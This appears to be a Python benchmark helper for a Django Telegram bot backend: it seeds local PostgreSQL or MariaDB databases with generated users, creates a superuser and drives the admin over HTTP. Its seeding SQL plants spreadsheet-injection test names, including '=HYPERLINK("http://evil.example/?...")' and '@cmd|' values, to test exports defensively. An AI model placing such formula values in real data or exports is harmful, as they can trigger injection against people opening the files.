"""Shared pieces of the benchmarks: bench databases, seeding by SQL, the admin server.

The databases live on the PostgreSQL server named by BENCH_PG (default
postgres://postgres@127.0.0.1:5432) or, with `engine="mysql"`, on the MariaDB server
named by BENCH_MYSQL (default mysql://root@127.0.0.1:3306), and are reused across runs: a
database that already holds the wanted rows is not seeded again. Nothing is dropped
unless asked (--drop). Both servers get the same users (the same SQL, each in its own
dialect), so that the exports of the two are the same bytes but for the dates.
"""

from __future__ import annotations

import json
import os
import platform
import re
import secrets
import shutil
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote, urlsplit

import psycopg2

ROOT = Path(__file__).resolve().parent.parent
RESULTS = ROOT / "bench" / "results"
PG = os.environ.get("BENCH_PG", "postgres://postgres@127.0.0.1:5432")
MYSQL = os.environ.get("BENCH_MYSQL", "mysql://root@127.0.0.1:3306")
SERVERS = {"postgres": PG, "mysql": MYSQL}
ENGINES = tuple(SERVERS)
ENGINE_NAMES = {"postgres": "PostgreSQL", "mysql": "MariaDB"}
ADMIN_USER = "bench-admin"
ADMIN_PASSWORD = "bench-" + "x7Qp" * 6  # a local bench database only

# A log folder of our own: the project's logs/ stays as it was.
LOG_DIR = Path(tempfile.gettempdir()) / "topup-bench-logs"
SECRET_KEY = secrets.token_urlsafe(48)  # per run; DEBUG stays off as in production


def db_url(name: str, engine: str = "postgres") -> str:
    return f"{SERVERS[engine]}/{name}"


def _pg_args(name: str) -> list[str]:
    parts = urlsplit(db_url(name))
    args = ["-h", parts.hostname or "127.0.0.1", "-p", str(parts.port or 5432)]
    return [*args, "-U", parts.username or "postgres", "-d", name]


def mysql_args(name: str) -> list[str]:
    """The mysql client's connection options for database `name` (the password, if the
    URL has one, goes in MYSQL_PWD: see `mysql_env`)."""
    parts = urlsplit(db_url(name, "mysql"))
    args = ["-h", parts.hostname or "127.0.0.1", "-P", str(parts.port or 3306)]
    return [*args, "-u", unquote(parts.username or "root"), name]


def mysql_env() -> dict[str, str]:
    password = urlsplit(MYSQL).password
    return {**os.environ, "MYSQL_PWD": unquote(password)} if password else dict(os.environ)


def connect(name: str | None = None, engine: str = "postgres"):
    """An autocommit connection to `name` (by default the server's own database)."""
    if engine == "mysql":
        import MySQLdb

        parts = urlsplit(db_url(name or "", engine))
        conn = MySQLdb.connect(
            host=parts.hostname or "127.0.0.1",
            port=parts.port or 3306,
            user=unquote(parts.username or "root"),
            password=unquote(parts.password or ""),
            database=name or "",
            charset="utf8mb4",
        )
        conn.autocommit(True)
        return conn
    conn = psycopg2.connect(db_url(name or "postgres"))
    conn.autocommit = True
    return conn


def execute(name: str | None, engine: str, *statements: str) -> None:
    """Run statements on one autocommit connection to `name`."""
    conn = connect(name, engine)
    try:
        cur = conn.cursor()
        for statement in statements:
            cur.execute(statement)
        cur.close()
    finally:
        conn.close()


def database_exists(name: str, engine: str = "postgres") -> bool:
    sql = {
        "postgres": "SELECT count(*) FROM pg_database WHERE datname = %s",
        "mysql": "SELECT count(*) FROM information_schema.schemata WHERE schema_name = %s",
    }[engine]
    return scalar(None, sql, [name], engine=engine) > 0


def drop_database(name: str, engine: str = "postgres") -> None:
    if not re.fullmatch(r"topup_bench_\w+", name):
        raise ValueError(f"refusing to drop {name!r}: not a bench database")
    if engine == "mysql":
        execute(None, engine, f"DROP DATABASE IF EXISTS `{name}`")
    else:
        execute(None, engine, f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
    log(f"dropped database {name} ({ENGINE_NAMES[engine]})")


def django_env(name: str, engine: str = "postgres", **extra: str) -> dict[str, str]:
    """The environment for a manage.py subprocess on the bench database."""
    env = {
        **os.environ,
        "DATABASE_URL": db_url(name, engine),
        "LOG_DIR": str(LOG_DIR),
        "PYTHONUNBUFFERED": "1",
        "DJANGO_SETTINGS_MODULE": "backend.settings",
        "DEBUG": "false",
        "BACKEND_SECRET_KEY": SECRET_KEY,
    }
    env.update(extra)
    return env


def manage(
    name: str, *args: str, engine: str = "postgres", check: bool = True, **env: str
) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=ROOT,
        env=django_env(name, engine, **env),
        capture_output=True,
        text=True,
        check=check,
    )


# What the project asks of a MySQL/MariaDB database (backend/checks.py; migrate refuses
# any other default collation).
MYSQL_CREATE = "CREATE DATABASE `{name}` CHARACTER SET utf8mb4 COLLATE utf8mb4_bin"


def ensure_database(name: str, engine: str = "postgres") -> None:
    """Create the database when missing and apply the migrations (a no-op when current)."""
    if not database_exists(name, engine):
        create = MYSQL_CREATE if engine == "mysql" else 'CREATE DATABASE "{name}"'
        execute(None, engine, create.format(name=name))
        log(f"created database {name} ({ENGINE_NAMES[engine]})")
    started = time.perf_counter()
    manage(name, "migrate", "--noinput", engine=engine, DEBUG="true")
    log(f"migrated {name} ({time.perf_counter() - started:.1f} s)")


def scalar(name: str | None, sql: str, params=None, *, engine: str = "postgres"):
    conn = connect(name, engine)
    try:
        cur = conn.cursor()
        cur.execute(sql, params)
        value = cur.fetchone()[0]
        cur.close()
        return value
    finally:
        conn.close()


USERS_INSERT = """INSERT INTO users_telegramuser
    (telegram_id, username, first_name, last_name, language_code, balance, is_blocked,
     created_at, last_seen_at, bot_blocked_at, receipt_contact)
"""

# One INSERT ... SELECT generate_series: a million rows in well under a minute.
# Mostly Latin usernames `user<i>`, Cyrillic first and last names, one user in ~40 with a
# name that starts like a spreadsheet formula, 10 % without a username, 10 % with money.
USERS_SQL = """{insert}SELECT
    100000000 + i * 7,
    CASE WHEN i % 10 = 0 THEN '' ELSE 'user' || i END,
    CASE
        WHEN i % 97 = 0 THEN '=HYPERLINK("http://evil.example/?' || i || '")'
        WHEN i % 89 = 0 THEN '+7 (900) ' || i
        WHEN i % 83 = 0 THEN '-' || i
        WHEN i % 79 = 0 THEN '@cmd|' || i
        ELSE (ARRAY['Иван', 'Мария', 'Алексей', 'Ольга', 'Дмитрий', 'Анна', 'John',
                    'Екатерина', 'Сергей', 'Наталья «Ната»'])[1 + i % 10]
    END,
    CASE WHEN i % 3 = 0 THEN ''
         ELSE (ARRAY['Иванов', 'Петрова', 'Смирнов', 'Кузнецова', 'Попов', 'Васильева',
                     'Smith, Jr.', 'Соколов "Сокол"'])[1 + i % 8]
    END,
    (ARRAY['ru', 'en', 'uk', ''])[1 + i % 4],
    CASE WHEN i % 10 = 3 THEN (1 + i % 5000) * 100 + i % 100 ELSE 0 END,  -- kopecks
    i % 500 = 0,
    now() - interval '730 days' + i * (interval '730 days' / {n}),
    now() - (i % 1000) * interval '1 hour',
    NULL,
    ''
FROM generate_series(1, {n}) AS i
"""


# The same users for MariaDB: its SEQUENCE engine's seq_1_to_<n> for generate_series,
# ELT for the arrays, and the dates in UTC as Django keeps them there (naive DATETIMEs).
# 730 days / n is rounded to microseconds, as PostgreSQL divides an interval.
USERS_SQL_MYSQL = """{insert}SELECT
    100000000 + i * 7,
    IF(i % 10 = 0, '', CONCAT('user', i)),
    CASE
        WHEN i % 97 = 0 THEN CONCAT('=HYPERLINK("http://evil.example/?', i, '")')
        WHEN i % 89 = 0 THEN CONCAT('+7 (900) ', i)
        WHEN i % 83 = 0 THEN CONCAT('-', i)
        WHEN i % 79 = 0 THEN CONCAT('@cmd|', i)
        ELSE ELT(1 + i % 10, 'Иван', 'Мария', 'Алексей', 'Ольга', 'Дмитрий', 'Анна', 'John',
                 'Екатерина', 'Сергей', 'Наталья «Ната»')
    END,
    IF(i % 3 = 0, '',
       ELT(1 + i % 8, 'Иванов', 'Петрова', 'Смирнов', 'Кузнецова', 'Попов', 'Васильева',
           'Smith, Jr.', 'Соколов "Сокол"')),
    ELT(1 + i % 4, 'ru', 'en', 'uk', ''),
    IF(i % 10 = 3, (1 + i % 5000) * 100 + i % 100, 0),  -- kopecks
    i % 500 = 0,
    @now - INTERVAL 730 DAY + INTERVAL (i * {step}) MICROSECOND,
    @now - INTERVAL (i % 1000) HOUR,
    NULL,
    ''
FROM (SELECT seq AS i FROM seq_1_to_{n}) AS s
"""


def ensure_users(name: str, n: int, engine: str = "postgres") -> float:
    """`n` seeded users in `name`; returns the seeding time (0 when they were there)."""
    ensure_database(name, engine)
    have = scalar(name, "SELECT count(*) FROM users_telegramuser", engine=engine)
    if have == n:
        log(f"{name}: {n:,} users already there, reused")
        return 0.0
    if have:
        raise SystemExit(
            f"{name} has {have:,} users, not {n:,}: run with --fresh to drop and reseed it"
        )
    log(f"{name}: seeding {n:,} users by SQL ({ENGINE_NAMES[engine]})...")
    started = time.perf_counter()
    if engine == "mysql":
        # One statement, one transaction: no file to write or to allow (local_infile).
        statements = [
            "SET @now = UTC_TIMESTAMP(6)",
            "SET SESSION unique_checks = 0",
            USERS_SQL_MYSQL.format(
                insert=USERS_INSERT, n=int(n), step=round(730 * 86400 * 10**6 / n)
            ),
            "ANALYZE TABLE users_telegramuser",
        ]
    else:
        users = USERS_SQL.format(insert=USERS_INSERT, n=int(n))
        statements = [users, "VACUUM ANALYZE users_telegramuser"]
    execute(name, engine, *statements)
    took = time.perf_counter() - started
    log(f"{name}: seeded in {took:.1f} s")
    return took


def ensure_superuser(name: str, engine: str = "postgres") -> None:
    result = manage(
        name,
        "createsuperuser",
        "--noinput",
        engine=engine,
        check=False,
        DEBUG="true",
        DJANGO_SUPERUSER_USERNAME=ADMIN_USER,
        DJANGO_SUPERUSER_PASSWORD=ADMIN_PASSWORD,
        DJANGO_SUPERUSER_EMAIL="bench@example.com",
    )
    if result.returncode and "already" not in result.stderr:
        raise SystemExit(f"createsuperuser failed:\n{result.stderr}")


def table_size(name: str, table: str, engine: str = "postgres") -> str:
    if engine == "mysql":
        size = scalar(
            None,
            "SELECT data_length + index_length FROM information_schema.tables "
            "WHERE table_schema = %s AND table_name = %s",
            [name, table],
            engine=engine,
        )
        return f"{size / 2**20:.0f} MB"
    return scalar(name, "SELECT pg_size_pretty(pg_total_relation_size(%s))", [table])


def server_version(engine: str = "postgres") -> str:
    sql = {"postgres": "SHOW server_version", "mysql": "SELECT version()"}[engine]
    return scalar(None, sql, engine=engine)


def pg_version() -> str:
    return server_version("postgres")


def psql(name: str, command: str) -> float:
    """Run one psql command; returns its wall time."""
    started = time.perf_counter()
    subprocess.run(
        ["psql", "-X", "-q", *_pg_args(name), "-c", command],
        check=True,
        stdout=subprocess.DEVNULL,
    )
    return time.perf_counter() - started


# --- memory of another process ---------------------------------------------------------


def rss_kb(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


class RssSampler:
    """Samples a process's VmRSS every `interval` seconds from a thread; `growth_mb` is
    the peak minus the value at the start."""

    def __init__(self, pid: int, interval: float = 0.05) -> None:
        self.pid, self.interval = pid, interval
        self.start_kb = self.peak_kb = rss_kb(pid)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                self.peak_kb = max(self.peak_kb, rss_kb(self.pid))
            except (FileNotFoundError, ProcessLookupError):
                return
            self._stop.wait(self.interval)

    def __enter__(self) -> RssSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()

    @property
    def growth_mb(self) -> float:
        return (self.peak_kb - self.start_kb) / 1024


# --- the admin over HTTP -----------------------------------------------------------------


def free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def admin_server(name: str, engine: str = "postgres"):
    """`manage.py runserver --noreload` on the bench database with production-like
    settings (DEBUG off); yields (base_url, pid)."""
    port = free_port()
    env = {
        "SECURE_COOKIES": "false",
        "ALLOWED_HOSTS": "127.0.0.1",
    }
    server_log = open(LOG_DIR / "runserver.log", "ab")  # noqa: SIM115
    process = subprocess.Popen(
        [sys.executable, "manage.py", "runserver", "--noreload", "--insecure", f"127.0.0.1:{port}"],
        cwd=ROOT,
        env=django_env(name, engine, **env),
        stdout=server_log,
        stderr=subprocess.STDOUT,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        import httpx

        deadline = time.monotonic() + 60
        while True:
            if process.poll() is not None:
                raise SystemExit(f"runserver exited; see {LOG_DIR / 'runserver.log'}")
            try:
                httpx.get(f"{base}/admin/login/", timeout=2)
                break
            except httpx.HTTPError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.2)
        yield base, process.pid
    finally:
        process.terminate()
        try:
            process.wait(10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        server_log.close()


def admin_login(base: str):
    """An httpx.Client logged in to the admin as the bench superuser."""
    import httpx

    client = httpx.Client(base_url=base, timeout=None, follow_redirects=False)
    page = client.get("/admin/login/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
    if not token:
        raise SystemExit("no CSRF token on the login page")
    response = client.post(
        "/admin/login/?next=/admin/",
        data={
            "username": ADMIN_USER,
            "password": ADMIN_PASSWORD,
            "csrfmiddlewaretoken": token[1],
            "next": "/admin/",
        },
        headers={"Referer": f"{base}/admin/login/"},
    )
    if response.status_code != 302:
        raise SystemExit(f"admin login failed: HTTP {response.status_code}")
    return client


# --- output ------------------------------------------------------------------------------


def log(text: str) -> None:
    print(f"[{datetime.now(UTC):%H:%M:%S}] {text}", file=sys.stderr, flush=True)


def median(values: list[float]) -> float:
    return statistics.median(values)


def table(headers: list[str], rows: list[list]) -> str:
    cells = [[str(c) for c in row] for row in [headers, *rows]]
    widths = [max(len(row[i]) for row in cells) for i in range(len(headers))]
    lines = ["  ".join(c.ljust(w) for c, w in zip(row, widths, strict=True)) for row in cells]
    lines.insert(1, "  ".join("-" * w for w in widths))
    return "\n".join(lines)


def machine(engine: str = "postgres") -> dict:
    return {
        "nproc": os.cpu_count(),
        "cpu": cpu_model(),
        ENGINE_NAMES[engine].lower(): server_version(engine),
        "python": sys.version.split()[0],
        "mem_total_mb": _meminfo_mb(),
        "loadavg_1_5_15": os.getloadavg(),
    }


def cpu_model() -> str:
    """The processor's name and clock: machines of one kind differ in speed (the same
    bench read 515 and 1208 updates/s for the same bare bot on two of them)."""
    found: dict[str, str] = {}
    with open("/proc/cpuinfo") as f:
        for line in f:
            key, _, value = line.partition(":")
            found.setdefault(key.strip(), value.strip())
    name = found.get("model name", platform.machine())
    mhz = found.get("cpu MHz")
    return f"{name}, {float(mhz):.0f} MHz" if mhz else name


def _meminfo_mb() -> int:
    with open("/proc/meminfo") as f:
        return int(f.readline().split()[1]) // 1024


def write_results(bench: str, data: dict) -> Path:
    RESULTS.mkdir(parents=True, exist_ok=True)
    path = RESULTS / f"{bench}-{datetime.now(UTC):%Y%m%dT%H%M%SZ}.json"
    path.write_text(json.dumps(data, indent=2, ensure_ascii=False, default=str) + "\n")
    log(f"results written to {path.relative_to(ROOT)}")
    return path


def users_db(quick: bool) -> tuple[str, int]:
    """The users database shared by export and admin_pages."""
    return ("topup_bench_users_100k", 100_000) if quick else ("topup_bench_users_1m", 1_000_000)


def have_psql() -> bool:
    return shutil.which("psql") is not None


LOG_DIR.mkdir(parents=True, exist_ok=True)


def add_database_arguments(parser) -> None:
    """--fresh and --drop, shared by the benchmarks on the users database."""
    parser.add_argument("--fresh", action="store_true", help="drop and reseed the database")
    parser.add_argument("--drop", action="store_true", help="drop the database when done")


def prepare_users_db(
    *, quick: bool, fresh: bool, engine: str = "postgres"
) -> tuple[str, int, float]:
    """The seeded users database with a superuser: (name, users, seconds spent seeding)."""
    name, users = users_db(quick)
    if fresh:
        drop_database(name, engine)
    seeded = ensure_users(name, users, engine)
    ensure_superuser(name, engine)
    return name, users, seeded
